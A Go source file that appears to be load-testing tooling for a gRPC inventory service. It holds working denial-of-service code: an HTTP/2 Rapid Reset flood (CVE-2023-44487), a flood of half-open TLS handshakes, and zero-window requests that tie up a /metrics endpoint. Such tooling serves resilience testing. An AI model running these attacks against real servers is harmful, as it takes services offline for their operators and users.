package load

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	inventoryv1 "github.com/slicefeed/slicefeed/gen/slicefeed/inventory/v1"
)

// RequestHeaders are those of a call. After the first call HPACK has each of them in one byte.
var RequestHeaders = []hpack.HeaderField{
	{Name: ":method", Value: "POST"},
	{Name: ":scheme", Value: "https"},
	{Name: ":path", Value: inventoryv1.InventoryService_WatchNodes_FullMethodName},
	{Name: ":authority", Value: "inventory.example"},
	{Name: "content-type", Value: "application/grpc"},
	{Name: "te", Value: "trailers"},
}

// ResetRapidly opens streams and resets them at once (CVE-2023-44487), on so many connections, until
// ctx is done. A connection that the server closes is dialed again after redial.
func ResetRapidly(ctx context.Context, address string, cfg *tls.Config, connections int, redial time.Duration) {
	var all sync.WaitGroup
	defer all.Wait()
	for range connections {
		all.Go(func() {
			for ctx.Err() == nil {
				if conn, err := (&tls.Dialer{Config: cfg}).DialContext(ctx, "tcp", address); err == nil {
					sendResets(ctx, conn)
				}
				pause(ctx, redial)
			}
		})
	}
}

func pause(ctx context.Context, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
	case <-ctx.Done():
	}
}

func sendResets(ctx context.Context, conn net.Conn) {
	defer conn.Close()                                          //nolint:errcheck // it is over
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })() // ends a write that waits
	var answers sync.WaitGroup
	defer answers.Wait()
	answers.Go(func() {
		_, _ = io.Copy(io.Discard, conn) // a peer that reads can send more
		_ = conn.Close()
	})
	var batch, block bytes.Buffer
	framer, encoder := http2.NewFramer(&batch, nil), hpack.NewEncoder(&block)
	batch.WriteString(http2.ClientPreface)
	err := framer.WriteSettings()
	for id := uint32(1); err == nil && id < 1<<30; {
		for range 100 {
			block.Reset()
			for _, f := range RequestHeaders {
				_ = encoder.WriteField(f) // a buffer takes all
			}
			err = errors.Join(
				framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndHeaders: true}),
				framer.WriteRSTStream(id, http2.ErrCodeCancel))
			id += 2
		}
		if err == nil {
			_, err = conn.Write(batch.Bytes())
		}
		batch.Reset()
	}
}

// openHandshakes dials from one address at a rate, and leaves each handshake half done.
func openHandshakes(ctx context.Context, from, address string, perSecond int) {
	dialer := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}}
	held := make(chan net.Conn, 12000)
	const dialers = 8
	var all sync.WaitGroup
	for range dialers {
		all.Go(func() {
			tick := time.NewTicker(10 * time.Millisecond)
			defer tick.Stop()
			for ctx.Err() == nil {
				for range perSecond / 100 / dialers {
					conn, err := dialer.DialContext(ctx, "tcp", address)
					if err != nil {
						continue
					}
					_, _ = io.WriteString(conn, "\x16\x03\x01\x02\x00\x01\x00") // the beginning of a client hello
					for kept := false; !kept; {
						select {
						case held <- conn:
							kept = true
						case oldest := <-held: // the server has long cut it off
							_ = oldest.(*net.TCPConn).SetLinger(0) // no port in TIME_WAIT
							_ = oldest.Close()
						}
					}
				}
				select {
				case <-tick.C:
				case <-ctx.Done():
				}
			}
		})
	}
	all.Wait()
	close(held)
	for conn := range held {
		_ = conn.Close()
	}
}

// distant is a connection over a distance: what is written arrives that much later.
type distant struct {
	net.Conn

	delay time.Duration
}

// Write waits in place of the network: a handshake's messages go back and forth one by one.
func (d *distant) Write(b []byte) (int, error) {
	pause(context.Background(), d.delay)
	return d.Conn.Write(b)
}

// occupyScrapes requests /metrics over HTTP/2 without TLS, and gives no window to answer in.
func occupyScrapes(ctx context.Context, address string, requests int) error {
	conn, err := (&net.Dialer{}).DialContext(ctx, "tcp", address)
	if err != nil {
		return err
	}
	defer conn.Close()                                          //nolint:errcheck // it is over
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })() // ends a read that waits
	var batch, block bytes.Buffer
	framer, encoder := http2.NewFramer(&batch, nil), hpack.NewEncoder(&block)
	batch.WriteString(http2.ClientPreface)
	err = framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	for n := range requests {
		block.Reset()
		for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":path", "/metrics"}, {":authority", "x"}} {
			_ = encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
		}
		err = errors.Join(err, framer.WriteHeaders(http2.HeadersFrameParam{
			StreamID: uint32(2*n + 1), BlockFragment: block.Bytes(), EndHeaders: true, EndStream: true,
		}))
	}
	if err == nil {
		_, err = conn.Write(batch.Bytes())
	}
	_, _ = io.Copy(io.Discard, conn) // until either end closes it
	return err
}
